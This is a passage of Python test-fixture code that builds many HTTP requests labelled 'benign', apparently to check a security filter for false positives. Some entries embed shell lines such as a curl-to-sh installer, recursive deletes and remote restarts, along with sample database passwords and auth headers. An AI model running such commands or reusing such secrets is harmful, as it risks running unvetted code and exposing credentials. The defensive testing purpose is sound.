                 "    - echo \"$CI_REGISTRY_PASSWORD\" | docker login -u \"$CI_REGISTRY_USER\" --password-stdin $CI_REGISTRY\n\n"
                 "deploy:\n  stage: deploy\n  script:\n    - 'curl --fail -X POST -H \"Authorization: Bearer $DEPLOY_TOKEN\" https://deploy.acme.example/api/releases'\n"
                 "    - ssh deploy@10.0.3.7 \"cd /srv/app && git pull && systemctl restart app\"\n  only: [main]\n")
    dockerfile = ("FROM python:3.12-slim AS base\nENV PYTHONDONTWRITEBYTECODE=1 PIP_NO_CACHE_DIR=1\nRUN apt-get update && apt-get install -y --no-install-recommends "
                  "curl ca-certificates && rm -rf /var/lib/apt/lists/*\nWORKDIR /app\nCOPY pyproject.toml poetry.lock ./\nRUN pip install poetry && poetry install --only main\n"
                  "COPY src/ ./src/\nRUN useradd -r -u 10001 app && chown -R app /app\nUSER app\nHEALTHCHECK CMD curl -f http://localhost:8000/healthz || exit 1\n"
                  "CMD [\"gunicorn\", \"-b\", \"0.0.0.0:8000\", \"src.app:create_app()\"]\n")
    deployment = {"apiVersion": "apps/v1", "kind": "Deployment", "metadata": {"name": "api", "namespace": "shop", "labels": {"app": "api"},
                                                                              "annotations": {"kubectl.kubernetes.io/last-applied-configuration": "{}"}},
                  "spec": {"replicas": 3, "selector": {"matchLabels": {"app": "api"}}, "template": {"metadata": {"labels": {"app": "api"}}, "spec": {
                      "containers": [{"name": "api", "image": "ghcr.io/acme/api:3f9c2ab", "command": ["/bin/sh", "-c"],
                                      "args": ["python manage.py migrate --noinput && exec gunicorn app.wsgi -b 0.0.0.0:8000 --workers 4"],
                                      "env": [{"name": "DATABASE_URL", "valueFrom": {"secretKeyRef": {"name": "db", "key": "url"}}}],
                                      "ports": [{"containerPort": 8000}],
                                      "readinessProbe": {"httpGet": {"path": "/healthz", "port": 8000}, "periodSeconds": 5},
                                      "volumeMounts": [{"name": "tmp", "mountPath": "/tmp"}, {"name": "logs", "mountPath": "/var/log/app"}]}],
                      "volumes": [{"name": "tmp", "emptyDir": {}}, {"name": "logs", "hostPath": {"path": "/var/log/app", "type": "DirectoryOrCreate"}}]}}}}
    nginx_conf = ("server {\n    listen 80;\n    server_name shop.example;\n    root /var/www/html;\n    location / {\n        try_files $uri $uri/ /index.php?$query_string;\n    }\n"
                  "    location ~ \\.php$ {\n        fastcgi_pass 127.0.0.1:9000;\n        include fastcgi_params;\n        fastcgi_param SCRIPT_FILENAME $document_root$fastcgi_script_name;\n    }\n"
                  "    location /api/ {\n        proxy_pass http://127.0.0.1:8080;\n        proxy_set_header X-Forwarded-For $proxy_add_x_forwarded_for;\n    }\n"
                  "    location ~ /\\.(?!well-known) { deny all; }\n}\n")
    return [
        js("benign", "/api/v1/repos/acme/shop-api/workflows", {"path": ".github/workflows/ci.yml", "content": workflow}),
        js("benign", "/api/v4/projects/42/repository/files/.gitlab-ci.yml", {"branch": "main", "commit_message": "ci: add deploy stage", "content": gitlab_ci}, method="PUT"),
        js("benign", "/api/v1/builds", {"dockerfile": dockerfile, "context": "https://github.com/acme/shop-api.git#main", "tags": ["api:latest"]}),
        js("benign", "/api/v1/jobs/nightly/config", {"pipeline": "pipeline {\n  agent any\n  stages {\n    stage('Test') { steps { sh 'make test' } }\n"
                                                                 "    stage('Package') { steps { sh './gradlew clean build -x test && ls -la build/libs/' } }\n"
                                                                 "    stage('Archive') { steps { archiveArtifacts artifacts: 'build/libs/*.jar' } }\n  }\n"
                                                                 "  post { failure { mail to: 'team@acme.example', subject: \"Failed: ${env.JOB_NAME} #${env.BUILD_NUMBER}\" } }\n}\n"}),
        js("benign", "/v2/pipelines/acme/api/builds", {"commit": "HEAD", "branch": "main", "message": "Rebuild with cache cleared",
                                                       "env": {"CLEAR_CACHE": "true"}, "steps": [{"label": ":pytest: tests", "command": "pip install -r requirements.txt && pytest"},
                                                                                                  {"wait": None}, {"label": ":rocket:", "command": "scripts/deploy.sh prod 2>&1 | tee deploy.log", "branches": "main"}]}),
        js("benign", "/api/v1/playbooks", {"name": "rotate-logs", "yaml": "- hosts: web\n  become: true\n  tasks:\n    - name: Show disk usage\n      shell: df -h / /var && du -sh /var/log/* | sort -h | tail -5\n"
                                                                          "    - name: Rotate\n      command: logrotate -f /etc/logrotate.d/app\n    - name: Restart\n      service: name=nginx state=reloaded\n"}),
        js("benign", "/api/v1/repos/acme/web/contents/package.json", {"message": "chore: scripts", "content": b64(json.dumps({
            "name": "web", "scripts": {"build": "rm -rf dist && tsc -p . && vite build", "test": "vitest run", "lint": "eslint 'src/**/*.{ts,tsx}' --max-warnings=0",
                                       "postinstall": "node scripts/copy-assets.js || true"}}, indent=2))}, method="PUT"),
        js("benign", "/apis/apps/v1/namespaces/shop/deployments", deployment),
        js("benign", "/api/v1/namespaces/shop/configmaps", {"apiVersion": "v1", "kind": "ConfigMap", "metadata": {"name": "nginx"}, "data": {"default.conf": nginx_conf}}),
        js("benign", "/api/v1/namespaces/shop/secrets", {"apiVersion": "v1", "kind": "Secret", "metadata": {"name": "db"}, "type": "Opaque",
                                                         "data": {"url": b64("postgres://app:Zx9-pQ2!@db.shop.svc.cluster.local:5432/shop?sslmode=require")}}),
        js("benign", "/apis/batch/v1/namespaces/shop/cronjobs", {"apiVersion": "batch/v1", "kind": "CronJob", "metadata": {"name": "cleanup"}, "spec": {
            "schedule": "*/15 * * * *", "jobTemplate": {"spec": {"template": {"spec": {"restartPolicy": "OnFailure", "containers": [{
                "name": "cleanup", "image": "postgres:16", "command": ["psql", "$(DATABASE_URL)", "-c", "DELETE FROM sessions WHERE expires_at < now();"]}]}}}}}}),
        js("benign", "/apis/networking.k8s.io/v1/namespaces/shop/ingresses", {"apiVersion": "networking.k8s.io/v1", "kind": "Ingress", "metadata": {
            "name": "web", "annotations": {"nginx.ingress.kubernetes.io/rewrite-target": "/$2",
                                           "nginx.ingress.kubernetes.io/configuration-snippet": "more_set_headers \"X-Frame-Options: DENY\";\nmore_set_headers \"Content-Security-Policy: default-src 'self'\";"}},
            "spec": {"rules": [{"host": "shop.example", "http": {"paths": [{"path": "/api(/|$)(.*)", "pathType": "ImplementationSpecific",
                                                                              "backend": {"service": {"name": "api", "port": {"number": 80}}}}]}}]}}),
        Req("benign", "PATCH", "/apis/apps/v1/namespaces/shop/deployments/api", {"Content-Type": "application/json-patch+json"},
            json.dumps([{"op": "replace", "path": "/spec/replicas", "value": 5},
                        {"op": "replace", "path": "/spec/template/spec/containers/0/image", "value": "ghcr.io/acme/api:9d1e07f"}]).encode()),
        Req("benign", "PATCH", "/apis/apps/v1/namespaces/shop/deployments/api", {"Content-Type": "application/strategic-merge-patch+json"},
            json.dumps({"spec": {"template": {"metadata": {"annotations": {"kubectl.kubernetes.io/restartedAt": "2024-05-21T12:00:00+02:00"}}}}}).encode()),
        js("benign", "/api/v1/releases", {"chart": "bitnami/redis", "version": "19.0.1", "values": "architecture: replication\nauth:\n  existingSecret: redis\n"
                                                                                                      "master:\n  persistence:\n    size: 8Gi\n  extraFlags:\n    - --maxmemory-policy allkeys-lru\n"
                                                                                                      "commonConfiguration: |-\n  appendonly yes\n  save \"\"\n"}),
        js("benign", "/api/v1/terraform/plans", {"workspace": "prod", "hcl": "resource \"aws_security_group_rule\" \"https\" {\n  type = \"ingress\"\n  from_port = 443\n"
                                                                                   "  to_port = 443\n  protocol = \"tcp\"\n  cidr_blocks = [\"0.0.0.0/0\"]\n  security_group_id = aws_security_group.web.id\n}\n"
                                                                                   "data \"aws_iam_policy_document\" \"s3\" {\n  statement {\n    actions = [\"s3:GetObject\"]\n"
                                                                                   "    resources = [\"${aws_s3_bucket.assets.arn}/*\"]\n  }\n}\n"}),
    ]


def database_tools() -> list[Req]:
    # These products are database tools: saving and running the user's own SQL is their whole purpose.
    monthly = ("SELECT date_trunc('month', o.created_at) AS month,\n       count(*) FILTER (WHERE o.status <> 'cancelled') AS orders,\n"
               "       sum(o.total_cents) / 100.0 AS revenue\nFROM orders o\nWHERE o.created_at >= '2024-01-01'\nGROUP BY 1\nORDER BY 1;")
    return [
        js("benign", "/api/card", {"name": "Monthly revenue", "display": "line", "dataset_query": {"type": "native", "database": 2,
                                                                                                  "native": {"query": monthly, "template-tags": {}}}}),
        js("benign", "/api/queries", {"name": "Churned customers (Q2)", "data_source_id": 1, "query":
            "-- customers with no order in 90 days\nSELECT c.id, c.email, max(o.created_at) AS last_order\nFROM customers c\n"
            "LEFT JOIN orders o ON o.customer_id = c.id\nGROUP BY c.id, c.email\nHAVING max(o.created_at) < now() - interval '90 days'\n"
            "   OR max(o.created_at) IS NULL\nORDER BY last_order NULLS FIRST\nLIMIT 500;", "options": {"parameters": []}}),
        js("benign", "/api/v1/sqllab/execute/", {"database_id": 1, "schema": "analytics", "runAsync": False, "sql":
            "SELECT region, product_line, SUM(sales) AS total\nFROM sales_fact\nWHERE year = 2024\nGROUP BY region, product_line\n"
            "UNION ALL\nSELECT region, 'ALL', SUM(sales) FROM sales_fact WHERE year = 2024 GROUP BY region\nORDER BY 1, 3 DESC"}),
        js("benign", "/api/v2/statements", {"statement": "select o_orderpriority, count(*) as order_count from orders where o_orderdate >= "
                                                         "'1993-07-01' and exists (select * from lineitem where l_orderkey = o_orderkey and "
                                                         "l_commitdate < l_receiptdate) group by o_orderpriority order by o_orderpriority;",
                                            "timeout": 60, "database": "TPCH_SF1", "warehouse": "COMPUTE_WH"}),
        js("benign", "/api/contents/notebooks/cohorts.ipynb", {"type": "notebook", "format": "json", "content": {"nbformat": 4, "nbformat_minor": 5, "metadata": {},
                                                                                                              "cells": [{"cell_type": "code", "metadata": {}, "outputs": [], "execution_count": 3,
                                                                                                                         "source": ["%%sql\n", "SELECT user_id, MIN(created_at)::date AS first_seen\n",
                                                                                                                                    "FROM events\n", "WHERE event = 'signup' -- only real signups\n",
                                                                                                                                    "GROUP BY user_id;"]},
                                                                                                                        {"cell_type": "code", "metadata": {}, "outputs": [], "execution_count": 4,
                                                                                                                         "source": ["df = _.DataFrame()\n", "df.groupby(df.first_seen.dt.to_period('M')).size().plot()"]}]}},
           method="PUT"),
        js("benign", "/api/dashboards/db", {"dashboard": {"title": "Orders", "panels": [{"type": "timeseries", "title": "Orders/h", "targets": [{
            "format": "time_series", "rawQuery": True, "rawSql": "SELECT $__timeGroupAlias(created_at, 1h), count(*) AS \"orders\"\nFROM orders\n"
                                                                  "WHERE $__timeFilter(created_at) AND status IN ($status)\nGROUP BY 1\nORDER BY 1"}]}]}, "overwrite": True}),
        js("benign", "/v2/query", {"type": "run_sql", "args": {"source": "default", "sql": "CREATE INDEX CONCURRENTLY IF NOT EXISTS idx_orders_customer ON orders (customer_id, created_at DESC);",
                                                               "cascade": False, "read_only": False}}, headers={"X-Hasura-Role": "admin"}),
        js("benign", "/api/v1/saved-queries", {"title": "Find duplicate emails", "tags": ["cleanup"], "sql":
            "/* run before the unique index migration */\nSELECT lower(email) AS e, count(*), array_agg(id ORDER BY id)\nFROM users\nGROUP BY 1\nHAVING count(*) > 1;"}),
        js("benign", "/api/v1/retool/queries/run", {"queryName": "updateStatus", "query": "UPDATE tickets SET status = {{ statusSelect.value }}, updated_at = now() "
                                                                                           "WHERE id = {{ table1.selectedRow.data.id }} RETURNING id, status;"}),
        js("benign", "/api/v1/dbt/compile", {"sql": "{{ config(materialized='incremental', unique_key='order_id') }}\n\nselect\n    order_id,\n    customer_id,\n"
                                                    "    sum(amount) as amount\nfrom {{ ref('stg_payments') }}\n{% if is_incremental() %}\nwhere created_at > (select max(created_at) from {{ this }})\n"
                                                    "{% endif %}\ngroup by 1, 2"}),
    ]


def rich_text() -> list[Req]:
    ck = ("<h2>Release notes – v2.14</h2><p>We've improved <strong>search</strong> &amp; <em>filters</em>. See the <a href=\"https://docs.acme.example/search?lang=en#operators\" "
          "target=\"_blank\" rel=\"noopener noreferrer\">docs</a>.</p><figure class=\"table\"><table><thead><tr><th>Plan</th><th>Price</th></tr></thead><tbody>"
          "<tr><td>Free</td><td>$0</td></tr><tr><td>Pro</td><td>$12 / mo</td></tr></tbody></table></figure>"
          "<pre><code class=\"language-javascript\">const res = await fetch('/api/v1/items?limit=10');\nif (res.status &gt;= 400) throw new Error('oops');</code></pre>"
          "<p><img src=\"https://cdn.acme.example/img/search-v2.png\" alt=\"New search UI\" width=\"640\"></p>")
    return [
        js("benign", "/api/v1/posts", {"title": "Release notes v2.14", "html": ck, "status": "draft"}),
        js("benign", "/api/v1/posts/88", {"html": "<p>Here's the demo:</p><figure class=\"media\"><iframe width=\"560\" height=\"315\" src=\"https://www.youtube.com/embed/dQw4w9WgXcQ?si=Xy12\" "
                                                  "title=\"YouTube video player\" frameborder=\"0\" allow=\"accelerometer; autoplay; clipboard-write; encrypted-media; gyroscope; "
                                                  "picture-in-picture; web-share\" referrerpolicy=\"strict-origin-when-cross-origin\" allowfullscreen></iframe></figure>"}, method="PATCH"),
        js("benign", "/api/v1/posts/89", {"html": "<div style=\"padding:56.25% 0 0 0;position:relative;\"><iframe src=\"https://player.vimeo.com/video/76979871?h=8272103f6e\" "
                                                  "style=\"position:absolute;top:0;left:0;width:100%;height:100%;\" frameborder=\"0\" allow=\"autoplay; fullscreen; picture-in-picture\" "
                                                  "allowfullscreen></iframe></div>"}, method="PATCH"),
        js("benign", "/api/v1/docs", {"type": "doc", "content": [
            {"type": "heading", "attrs": {"level": 2}, "content": [{"type": "text", "text": "Install"}]},
            {"type": "codeBlock", "attrs": {"language": "bash"}, "content": [{"type": "text", "text": "curl -fsSL https://get.acme.example | sh\nacme login && acme deploy --prod"}]},
            {"type": "paragraph", "content": [{"type": "text", "text": "Then open "}, {"type": "text", "marks": [{"type": "link", "attrs": {"href": "http://localhost:3000/setup"}}],
                                                                                  "text": "http://localhost:3000/setup"}, {"type": "text", "text": " in your browser."}]}]}),
        js("benign", "/api/v1/notes", {"delta": {"ops": [{"insert": "Shopping list\n", "attributes": {"header": 1}}, {"insert": "eggs & milk"}, {"insert": "\n", "attributes": {"list": "bullet"}},
                                                         {"insert": "rock 'n' roll CD"}, {"insert": "\n", "attributes": {"list": "bullet"}}, {"insert": "x < 3 items? ok\n"}]}}),
        js("benign", "/wp-json/wp/v2/posts", {"title": "How we cut p99 latency by 40%", "status": "publish", "content":
            "<!-- wp:paragraph -->\n<p>TL;DR: an index and a cache.</p>\n<!-- /wp:paragraph -->\n\n<!-- wp:code -->\n<pre class=\"wp-block-code\"><code>"
            "CREATE INDEX idx_orders_created ON orders (created_at);\nEXPLAIN ANALYZE SELECT * FROM orders WHERE created_at &gt; now() - interval '1 day';</code></pre>\n"
            "<!-- /wp:code -->\n\n<!-- wp:image {\"id\":512} -->\n<figure class=\"wp-block-image\"><img src=\"https://blog.acme.example/wp-content/uploads/2024/05/p99.png\" alt=\"\"/></figure>\n<!-- /wp:image -->"},
           headers={"Authorization": "Basic " + b64("editor:abcd efgh ijkl mnop qrst uvwx")}),
        js("benign", "/rest/api/content", {"type": "page", "title": "Runbook: DB failover", "space": {"key": "OPS"}, "body": {"storage": {"representation": "storage", "value":
            "<p>Steps:</p><ol><li>Check replication lag</li><li>Promote the replica</li></ol><ac:structured-macro ac:name=\"code\"><ac:parameter ac:name=\"language\">bash"
            "</ac:parameter><ac:plain-text-body><![CDATA[psql -h db-2 -c \"SELECT now() - pg_last_xact_replay_timestamp() AS lag;\"\nsudo -u postgres pg_ctl promote -D /var/lib/postgresql/16/main]]>"
            "</ac:plain-text-body></ac:structured-macro>"}}}),
        js("benign", "/api/v1/readme", {"markdown": "# acme-cli\n\n[![CI](https://github.com/acme/cli/actions/workflows/ci.yml/badge.svg)](https://github.com/acme/cli/actions)\n\n"
                                                    "## Usage\n\n```sh\n$ acme deploy --env=prod --tag=$(git describe --tags)\n$ acme logs -f | grep -E 'ERROR|WARN'\n```\n\n"
                                                    "| flag | default | meaning |\n|---|---|---|\n| `--env` | `dev` | target environment |\n| `--dry-run` | `false` | print, don't apply |\n\n"
                                                    "<details><summary>Windows</summary>\n\nUse `acme.exe` from `%LOCALAPPDATA%\\acme\\bin`.\n</details>\n"}),
        js("benign", "/api/v1/campaigns/17/content", {"html": "<!DOCTYPE html><html><head><meta charset=\"utf-8\"><style>body{font-family:Arial,sans-serif} .btn{background:#0a7;"
                                                              "color:#fff;padding:12px 20px;border-radius:4px;text-decoration:none}@media (max-width:600px){.col{width:100%!important}}</style>"
                                                              "</head><body><table role=\"presentation\" width=\"100%\" cellpadding=\"0\" cellspacing=\"0\"><tr><td align=\"center\">"
                                                              "<h1>Summer sale – up to 50% off</h1><p>Hi *|FNAME|*, don't miss it!</p><a class=\"btn\" href=\"https://shop.example/sale?utm_source=mail&amp;utm_campaign=summer24\">"
                                                              "Shop now</a><p style=\"font-size:11px;color:#888\">You're receiving this because you signed up at shop.example. "
                                                              "<a href=\"*|UNSUB|*\">Unsubscribe</a></p></td></tr></table></body></html>"}, method="PUT"),
        js("benign", "/api/v1/blocks", {"children": [{"object": "block", "type": "code", "code": {"language": "python", "rich_text": [{"type": "text", "text": {
            "content": "import subprocess\nout = subprocess.run(['git', 'log', '--oneline', '-5'], capture_output=True, text=True)\nprint(out.stdout)"}}]}},
            {"object": "block", "type": "callout", "callout": {"icon": {"emoji": "⚠️"}, "rich_text": [{"type": "text", "text": {"content": "Never run this on prod!"}}]}}]},
           method="PATCH", ascii_only=False),
        js("benign", "/api/v1/comments", {"body": "Great write-up! One nit: `<br/>` vs `<br>` doesn't matter in HTML5 :)", "format": "markdown"}),
        js("benign", "/api/v1/wiki/pages", {"title": "Style guide", "content": "Use <kbd>Ctrl</kbd>+<kbd>K</kbd> to insert links. Use <mark>highlight</mark> sparingly.\n\n"
                                                                             "<!-- TODO: add screenshots -->\n\n> **Note**\n> Headings go `##` → `###`, never skip a level."}, ascii_only=False),
    ]


def emails_and_chat() -> list[Req]:
    reply = ("Sounds good — let's ship Thursday.\n\nOn Wed, May 22, 2024 at 4:10 PM Priya Raman <priya@acme.example> wrote:\n> Can we drop the old endpoint\n"
             "> (/v1/orders/select) before the release? Select customers still call it.\n>\n> On Wed, May 22, 2024 at 3:55 PM Tom <tom@acme.example> wrote:\n"
             ">> FYI the migration script is in ops/migrate_2024_05.sql\n")
    outlook = ("Hi all,\n\nPlease find the Q2 numbers attached.\n\nBest,\nKarin\n\n________________________________\nFrom: O'Neill, Patrick <p.oneill@corp.example>\n"
               "Sent: Tuesday, May 21, 2024 9:14 AM\nTo: Finance <finance@corp.example>; Müller, Karin <k.mueller@corp.example>\nCc: #ops <ops@corp.example>\n"
               "Subject: RE: Q2 <draft> numbers & forecast\n\nCan someone update cell =SUM(B2:B14)? It's off by 1,000.")
    msgs = [
        "try `SELECT count(*) FROM users WHERE deleted_at IS NULL;` on the replica 🙏",
        "run `kubectl logs -f deploy/api -n shop | grep -i error` and paste the output",
        "the fix was `rm -rf node_modules package-lock.json && npm i` 🤦",
        "ok so `curl -X DELETE https://api.acme.example/v1/cache/products -H 'Authorization: Bearer …'` clears it",
        "anyone knows why `find / -name '*.log' -mtime +7 -delete` is so slow on the NFS mount?",
        "lol the regex `^(?!.*\\.\\.)[\\w.+-]+@[\\w-]+\\.[\\w.]+$` rejects my own email",
        "Deploy done ✅ 3/3 pods ready; rollback with `helm rollback api 41` if needed",
        "pls don't use `<table>` for layout 😅 flexbox exists",
        "config is in /etc/acme/config.yaml on the box, or ~/.acme/config locally",
        "git checkout -b fix/login && git commit -am 'fix: handle & in passwords' && git push -u origin HEAD",
        "Meeting moved to 15:00 (CET) — agenda: 1) incident review 2) drop/keep legacy API 3) AOB",
        "🎉🎉 we hit 10k users!!! 🚀🥳 drinks on me tonight",
    ]
    out = [
        js("benign", "/api/v1/tickets/311/replies", {"body": reply, "from": "tom@acme.example"}),
        js("benign", "/api/v1/mail/drafts", {"to": ["finance@corp.example"], "subject": "RE: Q2 <draft> numbers & forecast", "text": outlook}, ascii_only=False),
        js("benign", "/api/v1/mail/send", {"to": "\"Smith, Jane\" <jane.smith@example.com>", "cc": "Bob <bob@example.com>", "subject": "Re: Your order #10234",
                                           "headers": {"In-Reply-To": "<CAF=Yk1uX3b-Q@mail.gmail.com>", "References": "<CAF=Yk1uX3b-Q@mail.gmail.com>"},
                                           "text": "Thanks Jane -- refund issued. It can take 5-10 business days.\n\n-- \nAcme Support | https://acme.example/help"}),
        js("benign", "/api/v1/calendar/import", {"ics": "BEGIN:VCALENDAR\r\nVERSION:2.0\r\nPRODID:-//Acme//Cal//EN\r\nBEGIN:VEVENT\r\nUID:20240603T140000Z-123@acme.example\r\n"
                                                        "DTSTART:20240603T140000Z\r\nDTEND:20240603T150000Z\r\nSUMMARY:Q2 review (Finance & Ops)\r\nLOCATION:Room 4.01 / https://meet.example/abc-defg-hij\r\n"
                                                        "DESCRIPTION:Agenda:\\n1. numbers\\n2. hiring\\n3. AOB\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n"}),
    ]
    for i, m in enumerate(msgs):
        if i % 3 == 0:
            out.append(js("benign", "/api/v1/channels/C024BE91L/messages", {"text": m, "thread_ts": "1716284300.000200"}, ascii_only=False))
        elif i % 3 == 1:
            out.append(js("benign", "/api/v1/chat.postMessage", {"channel": "#eng", "text": m, "unfurl_links": False}))
        else:
            out.append(form("benign", "/api/v1/messages", {"conversation_id": "8812", "body": m}))
    return out


def people_and_places() -> list[Req]:
    people = [("Siobhán", "O'Connor-Ní Bhriain", "12 O'Connell St", "Dublin"), ("Jean-François", "L'Heureux", "1200, rue de la Gauchetière O.", "Montréal"),
              ("Zoë", "D'Angelo", "55 O'Farrell St #4B", "San Francisco"), ("María José", "García-Márquez", "Calle de Alcalá, 42, 3º Izq.", "Madrid"),
              ("Łukasz", "Wójcik", "ul. Marszałkowska 10/12 m. 5", "Warszawa"), ("Björk", "Guðmundsdóttir", "Laugavegur 7", "Reykjavík"),
              ("Ngozi", "Okonjo-Iweala", "Plot 5, Off Adetokunbo Ademola Cres.", "Abuja"), ("İsmail", "Yıldırım", "İstiklal Cd. No:5 D:3", "İstanbul"),
              ("Nguyễn", "Thị Minh Khai", "Số 10, Ngõ 5, Phố Huế", "Hà Nội"), ("Anne-Marie", "St. John-Smythe", "Flat 2/1, 14 Queen's Gate", "London"),
              ("Renée", "O'Hara & Sons Ltd.", "c/o Smith & Wesson, P.O. Box 1012", "Springfield"), ("Dwayne", "Johnson Jr.", "1600 Pennsylvania Ave NW", "Washington, DC")]
    out: list[Req] = []
    for i, (first, last, street, city) in enumerate(people):
        doc = {"first_name": first, "last_name": last, "address": {"line1": street, "city": city, "postal_code": f"{10000 + i * 137}"},
               "phone": "+353 (0)1 234-5678" if i % 2 else "+1-415-555-0199", "email": f"{first.split()[0].lower()}.x{i}@example.com"}
        if i % 3 == 0:
            out.append(js("benign", "/api/v1/customers", doc, ascii_only=False))
        elif i % 3 == 1:
            out.append(form("benign", "/api/v1/checkout/address", {"name": f"{first} {last}", "street": street, "city": city, "notes": "Ring bell 3 – it's the blue door"}))
        else:
            out.append(get("benign", "/api/v1/customers", {"name": f"{first} {last}", "city": city}))
    out += [
        get("benign", "/api/v1/companies", {"q": "AT&T"}),
        get("benign", "/api/v1/companies", {"q": "L'Oréal S.A."}),
        js("benign", "/api/v1/vendors", {"name": "Procter & Gamble", "dba": "P&G", "notes": "Contact: \"Jim\" (ext. 204)"}),
        get("benign", "/api/v1/geo/search", {"q": "1 Infinite Loop, Cupertino, CA 95014"}),
        js("benign", "/api/v1/orders/10235/gift", {"message": "To my dear Mom — \"you're the best\" <3 Love, J. & K. xoxo", "from": "J & K"}),
    ]
    return out


def searches() -> list[Req]:
    qs = ['"machine learning" AND (python OR rust) -java', 'title:"select all" NOT draft', "site:example.com filetype:pdf annual report",
          "price:[10 TO 100] AND brand:(nike OR adidas)", "author:o'reilly", '"drop shipping" OR dropshipping', "C++ & C# jobs",
          "name:/joh?n(ath[oa]n)/", "tags:(sql OR nosql) AND -deprecated", 'repo:acme/api path:src/*.py "def main("',
          'lang:go "func (s *Server) ServeHTTP"', "status:open assignee:@me label:\"bug 🐛\" sort:updated-desc",
          "1/2 cup sugar OR 100g", "where to buy select comfort bed", "order by date", "<3 valentine's gifts", "is 5 > 3?", "100% cotton -polyester"]
    out = [get("benign", "/api/v1/search", {"q": s, "page": str(i % 3 + 1)}) for i, s in enumerate(qs)]
    out.append(js("benign", "/api/v1/search", {"query": {"bool": {"must": [{"match": {"title": "wireless headphones"}}], "filter": [
        {"range": {"price": {"gte": 20, "lte": 150}}}, {"terms": {"brand": ["Sony", "Bose", "Sennheiser"]}}], "must_not": [{"term": {"refurbished": True}}]}},
        "sort": [{"_score": "desc"}, {"price": "asc"}], "size": 24}))
    out.append(get("benign", "/api/v1/products", {"filter[status]": "active", "filter[price][gte]": "10", "sort": "-created_at,name", "fields[products]": "name,price",
                                                   "include": "brand,images"}))
    out.append(get("benign", "/odata/Products", {"$filter": "Price gt 20 and startswith(Name,'Chai') and Category/Name eq 'Beverages'",
                                                  "$orderby": "Price desc", "$select": "Name,Price", "$top": "10"}))
    out.append(get("benign", "/api/v1/issues", {"jql": "project = OPS AND status in (\"In Progress\", \"To Do\") AND updated >= -7d ORDER BY priority DESC"}))
    out.append(get("benign", "/api/v1/logs/search", {"query": "service:api status:error @http.status_code:>=500 -@http.url_details.path:/healthz"}))
    out.append(get("benign", "/api/v1/metrics/query", {"query": "sum by (route) (rate(http_requests_total{job=\"api\",code=~\"5..\"}[5m]))"}))
    return out


def logs_and_tickets() -> list[Req]:
    access = ['203.0.113.7 - - [21/May/2024:13:55:36 +0000] "GET /api/v1/items?id=12&sort=price HTTP/1.1" 200 512 "-" "' + CHROME + '"',
              '198.51.100.4 - alice [21/May/2024:13:55:37 +0000] "POST /api/v1/orders HTTP/2.0" 201 87 "https://shop.example/cart" "okhttp/4.12.0"',
              '10.0.4.17 - - [21/May/2024:13:55:39 +0000] "GET /healthz HTTP/1.1" 200 2 "-" "kube-probe/1.29"']
    java = ("java.lang.IllegalStateException: Failed to execute CommandLineRunner\n\tat org.springframework.boot.SpringApplication.callRunner(SpringApplication.java:798)\n"
            "Caused by: org.postgresql.util.PSQLException: ERROR: syntax error at or near \"FROM\"\n  Position: 15\n\tat org.postgresql.core.v3.QueryExecutorImpl"
            ".receiveErrorResponse(QueryExecutorImpl.java:2713)\n\tat com.acme.shop.repo.OrderRepository.findRecent(OrderRepository.java:54)\n\t... 42 more")
    laravel = ("SQLSTATE[42S22]: Column not found: 1054 Unknown column 'users.deleted_at' in 'where clause' (SQL: select * from `users` where `email` = "
               "jane@example.com and `users`.`deleted_at` is null limit 1)")
    pytb = ('Traceback (most recent call last):\n  File "/app/src/main.py", line 42, in handler\n    rows = db.execute(query, params)\n'
            '  File "/usr/local/lib/python3.12/site-packages/sqlalchemy/engine/base.py", line 1418, in execute\n'
            "sqlalchemy.exc.IntegrityError: (psycopg.errors.UniqueViolation) duplicate key value violates unique constraint \"users_email_key\"\n"
            "DETAIL:  Key (email)=(o'brien@example.com) already exists.\n[SQL: INSERT INTO users (email, name) VALUES (%(email)s, %(name)s) RETURNING users.id]")
    node = ("TypeError: Cannot read properties of null (reading 'id')\n    at Object.<anonymous> (/usr/src/app/routes/orders.js:27:31)\n"
            "    at Layer.handle [as handle_request] (/usr/src/app/node_modules/express/lib/router/layer.js:95:5)\n    at process.processTicksAndRejections (node:internal/process/task_queues:95:5)")
    gopanic = ("panic: runtime error: index out of range [3] with length 3\n\ngoroutine 1 [running]:\nmain.parse({0xc000012345, 0x3, 0x3})\n"
               "\t/home/dev/go/src/github.com/acme/tool/main.go:27 +0x1d\nexit status 2")
    nginx = ('2024/05/21 13:57:01 [emerg] 1#1: open() "/etc/nginx/conf.d/default.conf" failed (2: No such file or directory) in /etc/nginx/nginx.conf:31\n'
             "2024/05/21 13:57:02 [error] 7#7: *1 connect() failed (111: Connection refused) while connecting to upstream, client: 10.0.0.5, server: _, "
             'request: "GET /api/ HTTP/1.1", upstream: "http://127.0.0.1:8080/api/", host: "shop.example"')
    return [
        js("benign", "/api/v1/logs/bulk", {"source": "nginx", "lines": access}),
        raw("benign", "POST", "/api/v1/logs/raw", "\n".join(access) + "\n", {"Content-Type": "text/plain; charset=utf-8"}),
        js("benign", "/api/v1/tickets", {"subject": "App won't start after upgrade", "priority": "high", "body": "After upgrading to 3.2 the service crashes on boot:\n\n" + java}),
        js("benign", "/api/v1/tickets", {"subject": "Login broken", "body": "Getting this error since this morning:\n\n" + laravel + "\n\nDid a migration not run?"}),
        js("benign", "/api/v1/tickets/99/comments", {"body": "Full traceback:\n```\n" + pytb + "\n```"}),
        form("benign", "/support/new", {"email": "dev@client.example", "subject": "500 on /orders", "description": node}),
        js("benign", "/api/v1/tickets", {"subject": "CLI panics on empty input", "body": gopanic}),
        js("benign", "/api/v1/incidents/17/timeline", {"entry": "13:57 nginx failed to reload:\n" + nginx + "\nRestored default.conf from backup, reloaded OK."}),
        js("benign", "/api/v1/logs", {"streams": [{"stream": {"app": "api", "level": "info"}, "values": [
            ["1716299821000000000", '{"level":"info","msg":"request done","method":"GET","path":"/api/v1/users/42","status":200,"duration_ms":12.4}'],
            ["1716299822000000000", 'level=warn msg="slow query" query="SELECT * FROM orders WHERE customer_id = $1" duration=1.2s']]}]}),
        raw("benign", "POST", "/api/v1/syslog", "<34>1 2024-05-21T13:58:00.003Z web-1 sshd 4242 - - Accepted publickey for deploy from 10.0.0.9 port 50522 ssh2: "
                                                "ED25519 SHA256:abc123\n<86>1 2024-05-21T13:58:01.000Z web-1 sudo - - -   deploy : TTY=pts/0 ; PWD=/srv/app ; "
                                                "USER=root ; COMMAND=/usr/bin/systemctl restart app\n", TEXT),
